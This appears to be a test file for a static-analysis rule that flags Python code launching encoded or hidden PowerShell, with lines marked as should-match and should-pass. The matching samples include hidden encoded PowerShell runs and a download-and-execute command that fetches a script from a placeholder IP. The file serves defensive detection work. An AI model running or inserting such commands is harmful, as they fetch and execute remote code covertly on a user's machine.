import os
import subprocess

# ruleid: python-powershell-encoded
os.system("powershell -nop -w hidden -enc SQBFAFgA")
# ruleid: python-powershell-encoded
subprocess.run(["powershell.exe", "-EncodedCommand", "SQBFAFgA"])
# ruleid: python-powershell-encoded
subprocess.Popen("powershell -e SQBFAFgAIAAoAE4A", shell=True)
# ruleid: python-powershell-encoded
os.system("powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')")
# ok: python-powershell-encoded
subprocess.run(["powershell.exe", "-File", "build.ps1"])
# ok: python-powershell-encoded
os.system("powershell -ExecutionPolicy RemoteSigned -File build.ps1")
# ok: python-powershell-encoded
subprocess.run(["git", "-e"])
